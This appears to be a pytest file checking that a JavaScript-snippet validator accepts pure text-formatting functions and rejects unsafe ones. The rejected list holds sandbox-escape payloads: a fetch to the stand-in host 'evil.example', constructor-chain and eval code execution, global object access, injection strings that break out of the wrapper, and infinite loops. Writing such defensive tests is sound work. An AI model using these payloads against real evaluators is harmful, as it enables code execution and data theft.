"""Functions of configurations that compute a text and nothing else, and those that do more."""

from __future__ import annotations

import pytest

from prerender.setup.functions import translated

pytestmark = pytest.mark.quick


@pytest.mark.parametrize(
    "source",
    [
        "n => 'A.' + n",
        "(n) => '[' + n + ']'",
        "function number(n) {return 'A.'+n}",
        "function (n) { return n.replace(/0/g, '0') }",
        "(id) => 'mjx-eqn-' + String(id).replace(/\\s/g, '_')",
        "(id, base) => base + '#' + encodeURIComponent(id)",
        "tag => `(${tag})`",
        "tag => ['(', tag, ')']",
        "function (n) { const s = n.toString(); if (n > 9) return s; else return '0' + s }",
    ],
)
def test_what_computes(source: str) -> None:
    assert translated(source) is not None


@pytest.mark.parametrize(
    "source",
    [
        "",
        "n => MathJax.config.section + '.' + n",
        "n => section + '.' + n",
        "n => fetch('https://evil.example/' + n)",
        "n => n.constructor.constructor('return 1')()",
        "n => n['constructor']",
        "n => n[n]()",
        "n => String?.['constructor']('return 1')()",
        "n => { if (n) /(/.test(n) }",
        "n => n.replace(/x/, m => evil(m))",
        "n => { //\u2028 evil()\n return n }",
        "n => { evil = 1; evil() }",
        "n => n.at",
        "n => Math.constructor('evil')()",
        "n => Math['floor'](n)",
        "n => String.raw`x`",
        "n => n`x`",
        "n => (n, evil())",
        "class { static { evil() } }",
        "n => class { static { evil() } }",
        "n => { class a { static { evil() } } }",
        "n => ({ a: n })",
        "n => ({ ...evil })",
        "n => new Date",
        "n => n.length = 1",
        "n => { n.x = 1 }",
        "n => n?.constructor",
        "n => \\u0065vil()",
        "(n = evil()) => n",
        "({n}) => n",
        "(...n) => n",
        "n => delete n",
        "n => typeof evil",
        "n => { throw n }",
        "n => { let n = evil }",
        "function () { return arguments[0].callee }",
        "function evil() { return evil.caller }",
        "n\n => n",
        "function (n) { while (true) {} }",
        "function (n) { for (;;) {} }",
        "n => { document.body.innerHTML = n }",
        "n => this.x",
        "(n, w = window) => w",
        "({x: n = window}) => n",
        "n => `${window}`",
        "n => `${`${window}`}`",
        "async n => n",
        "function* (n) {}",
        "n => globalThis",
        "n => new Function(n)",
        "n => import('x')",
        "n => eval(n)",
        "n => (() => { throw n })()",
        "n => n.__proto__",
        "n => {",
        "n => 1)}; evil(); ({",
        "n => 1); (n",
        "n => 1, n => 2",
        "'n'",
        "n => '" + "x" * 3000 + "'",
    ],
)
def test_what_does_more(source: str) -> None:
    assert translated(source) is None
